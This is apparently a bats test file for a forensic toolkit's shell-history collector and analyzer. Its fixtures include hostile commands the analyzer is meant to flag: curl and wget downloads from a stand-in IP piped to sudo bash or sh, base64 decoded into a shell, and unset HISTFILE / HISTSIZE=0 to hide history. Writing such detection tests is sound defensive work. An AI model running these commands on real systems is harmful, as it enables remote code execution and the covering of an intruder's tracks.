#!/usr/bin/env bats
#
# The history collector (collectors/history.c, history_parse.c) and the
# history_command / history_file record types.
#
# Oracles: the shells themselves read the same files back
#   bash -c 'HISTTIMEFORMAT="%s "; history -r F; history'
#   zsh -fc 'fc -R F; fc -l -t %s -D 1'
#   fish -c 'history --show-time=...' with XDG_DATA_HOME on the fixture
# and write some of them (bash history -w, zsh fc -W with extended
# history, so zsh's metafied bytes are its own); real samples from plaso
# in tests/data/history; sqlite3 for the case; an ext4 image of the same
# root (mkfs.ext4 -d) read by irkit-analyze image.
load helpers

setup() {
	setup_scratch
	# the oracles' files (want, got...) are written here
	cd "$SCRATCH"
	export LC_ALL=C.UTF-8
	R=$SCRATCH/root
	mkdir -p "$R/etc" "$R/usr/bin" "$R/root" "$R/home/al/.local/share/fish" \
		"$R/home/bo" "$R/srv/cy"
	cat > "$R/etc/passwd" <<-'P'
	root:x:0:0:root:/root:/bin/bash
	al:x:1000:1000::/home/al:/usr/bin/zsh
	bo:x:1001:1001::/home/bo:/bin/bash
	cy:x:1002:1002::/srv/cy:/usr/bin/fish
	daemon:x:1:1::/usr/sbin:/usr/sbin/nologin
	P
}

teardown() {
	teardown_scratch
}

# collect ROOT: records of the history collector in $SCRATCH/h.jsonl
collect() {
	"$COLLECT" -q -o "$SCRATCH/h.tar.zst" --root "$1" --only history || true
	tar --zstd -xOf "$SCRATCH/h.tar.zst" --wildcards '*/records/history.jsonl' > "$SCRATCH/h.jsonl"
	tar --zstd -xOf "$SCRATCH/h.tar.zst" --wildcards '*/log.jsonl' > "$SCRATCH/log.jsonl"
}

# ours PATH: "TIME<TAB>COMMAND" of the records of PATH, newlines as the
# shells print them ("\n"); TIME is "-" when the record has none
ours() {
	python3 - "$SCRATCH/h.jsonl" "$1" <<-'PY'
	import json, sys, datetime
	for l in open(sys.argv[1]):
	    r = json.loads(l)
	    if r["type"] != "history_command" or r["path"] != sys.argv[2]:
	        continue
	    t = "-"
	    if r["time_source"] == "recorded":
	        t = str(int(datetime.datetime.fromisoformat(r["time"].replace("Z", "+00:00")).timestamp()))
	    else:
	        assert r["time"] is None and r["file_mtime"], r
	    d = " %d" % r["duration"] if "duration" in r else ""
	    print(t + d + "\t" + r["command"].replace("\n", "\\n"))
	PY
}

# bash_oracle FILE: bash's own reading, the same shape as ours (a time
# bash makes up, "now", for an entry without one is "-")
bash_oracle() {
	local now
	now=$(date +%s)
	bash -c 'HISTTIMEFORMAT="%s "; history -r "$1"; history' _ "$1" | python3 -c '
import re, sys
now = int(sys.argv[1]); out = []
for line in sys.stdin.read().split("\n")[:-1]:
    m = re.match(r"^ *(\d+)  (\d+) (.*)$", line)
    if m:
        t = int(m.group(2))
        out.append(["-" if t >= now - 5 else str(t), m.group(3)])
    else:
        out[-1][1] += "\\n" + line
for t, c in out:
    print(t + "\t" + c)' "$now"
}

# zsh_oracle FILE: zsh's own reading ("M:SS" elapsed as seconds)
zsh_oracle() {
	local now
	now=$(date +%s)
	zsh -fc 'fc -R "$1"; fc -l -t %s -D 1' _ "$1" | python3 -c '
import re, sys
now = int(sys.argv[1])
for line in sys.stdin.read().split("\n")[:-1]:
    m = re.match(r"^ *\d+  (\d+)  (\d+):(\d\d)  (.*)$", line)
    t = int(m.group(1))
    if t >= now - 5:
        print("-\t" + m.group(4))
    else:
        print("%d %d\t%s" % (t, int(m.group(2)) * 60 + int(m.group(3)), m.group(4)))' "$now"
}

@test "history: bash, as bash itself reads the plaso sample and files bash wrote" {
	command -v bash >/dev/null || skip "no bash"
	cp "$IRKIT_SRC/tests/data/history/bash_history" "$R/root/.bash_history"
	# bo: written by bash with HISTTIMEFORMAT (times now), then old
	# commands with times of our own; cy: no times at all
	HISTFILE=$R/home/bo/.bash_history bash -c 'HISTTIMEFORMAT=%s; set -o history
		history -s "ls -la /tmp"; history -s "echo \"quoted  spaces\""
		history -s "printf x\\ny"; history -w'
	printf '#1600000000\nwhoami\n#1600000100\n#1600000200\nid\n\n#1x\nuname -a\n' >> "$R/home/bo/.bash_history"
	printf 'first\nsecond\n\nthird\n#x not a time\n' > "$R/srv/cy/.bash_history"
	collect "$R"
	for f in /root/.bash_history /home/bo/.bash_history /srv/cy/.bash_history; do
		ours "$f" > ours
		bash_oracle "$R$f" > theirs
		# times bash wrote just now: compare the commands only
		if [ "$f" = /home/bo/.bash_history ]; then
			sed -i 's/^1[7-9][0-9]\{8\}\t/-\t/' ours theirs
		fi
		diff theirs ours
	done
	[ "$(wc -l < ours)" -eq 4 ]
	grep -q $'^-\t#x not a time$' ours
	# the file without times: each command says the mtime is its only time
	python3 - "$SCRATCH/h.jsonl" <<-'PY'
	import json, sys
	rs = [json.loads(l) for l in open(sys.argv[1])]
	cy = [r for r in rs if r["type"] == "history_command" and r["user"] == "cy"]
	assert [r["order"] for r in cy] == [1, 2, 3, 4] and [r["line"] for r in cy] == [1, 2, 4, 5]
	f = [r for r in rs if r["type"] == "history_file" and r["user"] == "cy"][0]
	assert all(r["time_source"] == "file-mtime" and r["file_mtime"] == f["mtime"] for r in cy)
	assert f["shell"] == "bash" and f["entries"] == 4 and f["home"] == "/srv/cy"
	PY
}

@test "history: zsh extended history as zsh reads it back, zsh's metafied bytes, continued lines" {
	command -v zsh >/dev/null || skip "no zsh"
	# written by zsh: a multi-line command, bytes zsh metafies (U+0103 is
	# c4 83), a final backslash
	zsh -fic 'SAVEHIST=100; HISTSIZE=100; setopt extended_history
		print -s "echo ăĂ ő"; print -s "for i in 1 2; do
echo \$i; done"; print -s "echo back\\"; fc -W "$1"' _ "$R/home/al/.zsh_history" </dev/null
	grep -q $'\x83' "$R/home/al/.zsh_history"
	cat "$IRKIT_SRC/tests/data/history/zsh_extended_history.txt" > "$R/root/.zsh_history"
	printf '\n: 1500000000:42;sleep 42\nno time here\n' >> "$R/root/.zsh_history"
	collect "$R"
	for f in /home/al/.zsh_history /root/.zsh_history; do
		ours "$f" > ours
		zsh_oracle "$R$f" > theirs
		if [ "$f" = /home/al/.zsh_history ]; then
			sed -i 's/^1[7-9][0-9]\{8\} [0-9]*\t/-\t/' ours theirs
		fi
		diff theirs ours
	done
	grep -q $'^1500000000 42\tsleep 42$' ours
	grep -q $'^-\tno time here$' ours
	grep -q 'echo ăĂ ő' "$SCRATCH/h.jsonl"
}

@test "history: fish as fish reads it (the plaso sample and an escaped multi-line command)" {
	command -v fish >/dev/null || skip "no fish"
	cp "$IRKIT_SRC/tests/data/history/fish_history" "$R/srv/cy/fish_history.sample"
	mkdir -p "$R/srv/cy/.local/share/fish"
	{ cat "$R/srv/cy/fish_history.sample"; echo
	  printf -- '- cmd: echo a\\\\b\\nsecond line\n  when: 1700000000\n'
	  printf -- '- cmd: no when\n- cmd: odd: colon\n  when: 1700000005\n  paths:\n    - x\n'
	} > "$R/srv/cy/.local/share/fish/fish_history"
	collect "$R"
	ours /srv/cy/.local/share/fish/fish_history > ours
	HOME=$SCRATCH XDG_CONFIG_HOME=$SCRATCH/cfg XDG_DATA_HOME=$R/srv/cy/.local/share \
		fish -c 'history --show-time="%s " --null --reverse' |
		python3 -c '
import sys
for e in sys.stdin.buffer.read().decode().split("\0")[:-1]:
    t, c = e.split(" ", 1)
    print(("-" if t == "0" else t) + "\t" + c.replace("\n", "\\n"))' > theirs
	diff theirs ours
	grep -q $'^1700000000\techo a\\\\b\\\\nsecond line$' ours
	[ "$(wc -l < ours)" -eq 13 ]
}

@test "history: python, mysql (libedit), psql and less histories; a history linked to /dev/null" {
	printf 'import os\nos.system("id")\n' > "$R/root/.python_history"
	printf '_HiStOrY_V2_\nselect\\0401;\nshow\\040databases;\n' > "$R/root/.mysql_history"
	printf 'select 1\001from t;\n\\q\n' > "$R/root/.psql_history"
	printf '.less-history-file:\n.search\n"password\n.shell\n"rm -rf /tmp/x\n.mark\nm a 1 0 /etc/passwd\n' > "$R/root/.lesshst"
	ln -s /dev/null "$R/home/bo/.bash_history"
	collect "$R"
	python3 - "$SCRATCH/h.jsonl" <<-'PY'
	import json, sys
	rs = [json.loads(l) for l in open(sys.argv[1])]
	cmd = lambda s: [r["command"] for r in rs if r["type"] == "history_command" and r["shell"] == s]
	assert cmd("python") == ["import os", 'os.system("id")'], cmd("python")
	assert cmd("mysql") == ["select 1;", "show databases;"], cmd("mysql")
	assert cmd("psql") == ["select 1\nfrom t;", "\\q"], cmd("psql")
	assert cmd("less") == ["password", "rm -rf /tmp/x"], cmd("less")
	less = [r["section"] for r in rs if r.get("shell") == "less" and r["type"] == "history_command"]
	assert less == ["search", "shell"]
	bo = [r for r in rs if r["type"] == "history_file" and r["user"] == "bo"]
	assert len(bo) == 1 and bo[0]["file_type"] == "link" and bo[0]["link_target"] == "/dev/null"
	assert bo[0]["entries"] == 0
	PY
	grep -q '"path":"/home/bo/.bash_history".*link to /dev/null: not read' "$SCRATCH/log.jsonl"
}

@test "history: findings for cleared or disabled history, download and run, base64 into a shell" {
	cat > "$R/root/.bash_history" <<-'H'
	ls
	curl -s http://203.0.113.5/x.sh | sudo bash
	echo aGkK | base64 -d | sh
	wget http://203.0.113.5/m -O /tmp/m
	cd /tmp
	chmod +x /tmp/m
	unset HISTFILE
	export HISTSIZE=0
	echo curl is a tool | grep sh
	wget -q http://203.0.113.5/y -O /tmp/y && sh /tmp/y
	H
	printf 'history -c\n' > "$R/home/al/.python_history"
	ln -s /dev/null "$R/home/bo/.bash_history"
	collect "$R"
	"$ANALYZE" ingest -q --db "$SCRATCH/c.db" --no-default-rules "$SCRATCH/h.tar.zst"
	sqlite3 "$SCRATCH/c.db" "SELECT h.command FROM finding_links f JOIN history_commands h
		ON f.record_table = 'history_commands' AND h.id = f.record_id ORDER BY h.path, h.line" > got
	cat > want <<-'W'
	history -c
	curl -s http://203.0.113.5/x.sh | sudo bash
	echo aGkK | base64 -d | sh
	wget http://203.0.113.5/m -O /tmp/m
	unset HISTFILE
	export HISTSIZE=0
	wget -q http://203.0.113.5/y -O /tmp/y && sh /tmp/y
	W
	diff want got
	sqlite3 "$SCRATCH/c.db" "SELECT title FROM findings WHERE category = 'history' ORDER BY title" > titles
	grep -qx 'download and run by root' titles
	grep -qx 'decoded and run by root' titles
	grep -qx 'download made executable by root' titles
	grep -qx 'history cleared or disabled by al' titles
	grep -qx 'history disabled for bo' titles
	sqlite3 "$SCRATCH/c.db" "SELECT reasons FROM findings WHERE title = 'download made executable by root'" |
		grep -q 'a download then chmod +x /tmp/m'
	"$ANALYZE" report --db "$SCRATCH/c.db" -o "$SCRATCH/r.html"
	grep -q '<h2 id="history">Suspicious shell commands</h2>' "$SCRATCH/r.html"
	grep -q '<h2 id="histfiles">History files that hide</h2>' "$SCRATCH/r.html"
	grep -q 'unset HISTFILE' "$SCRATCH/r.html"
	! grep -q '>cd /tmp<' "$SCRATCH/r.html" || false
}

@test "history: a 1 GB line, NULs and bytes that are not UTF-8: cut, logged, memory bounded" {
	f=$R/root/.bash_history
	printf 'ls\n\377\376 bad\0nul\n' > "$f"
	truncate -s +1G "$f"
	printf '\nwhoami\n' >> "$f"
	cd "$SCRATCH"
	/usr/bin/time -f '%M' -o rss "$COLLECT" -q -o h.tar.zst --root "$R" --only history || true
	# the process stayed far below the line: under 200 MB
	[ "$(tail -1 rss)" -lt 200000 ]
	tar --zstd -xOf h.tar.zst --wildcards '*/records/history.jsonl' > h.jsonl
	tar --zstd -xOf h.tar.zst --wildcards '*/log.jsonl' > log.jsonl
	python3 - h.jsonl <<-'PY'
	import json, sys
	rs = [json.loads(l) for l in open(sys.argv[1])]
	c = [r for r in rs if r["type"] == "history_command"]
	assert c[0]["command"] == "ls" and not c[0]["cut"]
	assert c[1]["command"] == "\\xff\\xfe bad\\x00nul", c[1]["command"]
	# the long line: its first 64 KiB, cut; whoami lies past the bound
	assert c[2]["cut"] and c[2]["command"] == "\\x00" * 65536
	assert len(c) == 3
	f = [r for r in rs if r["type"] == "history_file"][0]
	assert f["entries_cut"] == 1 and f["bytes_left"] == f["size"] - 64 * 2**20 > 0
	PY
	grep -q 'line 3 longer than 65536 bytes: cut' log.jsonl
	grep -q 'only the first 67108864 bytes read' log.jsonl
	# partial
	tar --zstd -xOf h.tar.zst --wildcards '*/manifest.json' | python3 -c '
import json, sys
m = json.load(sys.stdin)
assert m["collectors"]["history"]["status"] == "partial", m["collectors"]'
}

@test "history: the same root collected live and inside an ext4 image gives the same records" {
	command -v mkfs.ext4 >/dev/null || skip "no mkfs.ext4"
	cp "$IRKIT_SRC/tests/data/history/bash_history" "$R/root/.bash_history"
	cp "$IRKIT_SRC/tests/data/history/zsh_extended_history.txt" "$R/home/al/.zsh_history"
	cp "$IRKIT_SRC/tests/data/history/fish_history" "$R/home/al/.local/share/fish/fish_history"
	printf 'no time\ncurl x | sh\n' > "$R/srv/cy/.python_history"
	ln -s /dev/null "$R/home/bo/.bash_history"
	# whole seconds: the image keeps what mkfs copies
	find "$R" -exec touch -h -d @1700000000 {} +
	collect "$R"
	"$ANALYZE" ingest -q --db "$SCRATCH/live.db" --no-default-rules "$SCRATCH/h.tar.zst"
	truncate -s 16M "$SCRATCH/r.raw"
	mkfs.ext4 -q -F -d "$R" "$SCRATCH/r.raw"
	"$ANALYZE" image -q --no-scan --db "$SCRATCH/img.db" "$SCRATCH/r.raw" || true
	for t in "history_commands:user, shell, path, entry, line, command, time, time_source, file_mtime, duration, cut" \
	    "history_files:user, home, shell, path, file_type, link_target, size, mtime, entries, entries_cut, bytes_left"; do
		q="SELECT ${t#*:} FROM ${t%%:*} ORDER BY path, entry"
		[ "${t%%:*}" = history_files ] && q="SELECT ${t#*:} FROM ${t%%:*} ORDER BY path"
		sqlite3 "$SCRATCH/live.db" "$q" > live
		sqlite3 "$SCRATCH/img.db" "$q" > img
		[ -s live ]
		diff live img
	done
	[ "$(sqlite3 "$SCRATCH/img.db" "SELECT count(*) FROM findings WHERE category = 'history'")" -eq 2 ]
}

@test "history: a history written long before its user's last login (wtmp) is a finding; a recent one is not" {
	R=$SCRATCH/stale
	mkdir -p "$R/etc" "$R/home/old" "$R/home/new" "$R/var/log"
	printf 'root:x:0:0::/root:/bin/sh\nold:x:1001:1001::/home/old:/bin/bash\nnew:x:1002:1002::/home/new:/bin/bash\n' > "$R/etc/passwd"
	echo 'ls' > "$R/home/old/.bash_history"
	echo 'id' > "$R/home/new/.bash_history"
	touch -d '2026-01-01 00:00:00 UTC' "$R/home/old/.bash_history"
	touch -d '2026-11-30 00:00:00 UTC' "$R/home/new/.bash_history"
	# both logged in on 2026-12-01 (utmp type 7: USER_PROCESS)
	python3 "$BATS_TEST_DIRNAME/utmp_make.py" utmp "$R/var/log/wtmp" 384-le <<-'W'
	7 100 pts/0 ts/0 old 198.51.100.7 198.51.100.7 1796083200 0
	7 101 pts/1 ts/1 new 198.51.100.8 198.51.100.8 1796083200 0
	W
	"$COLLECT" -q -o "$SCRATCH/s.tar.zst" --root "$R" --only history,logins || true
	"$ANALYZE" ingest -q --no-default-rules --db "$SCRATCH/s.db" "$SCRATCH/s.tar.zst"
	run sqlite3 "$SCRATCH/s.db" "SELECT title || '|' || reasons FROM findings WHERE category = 'history'"
	echo "$output"
	[ "${#lines[@]}" -eq 1 ]
	[[ "$output" == "history of old older than its logins|"*"/home/old/.bash_history was last written 2026-01-01T00:00:00Z but old logged in at 2026-12-01T00:00:00Z"* ]]
}
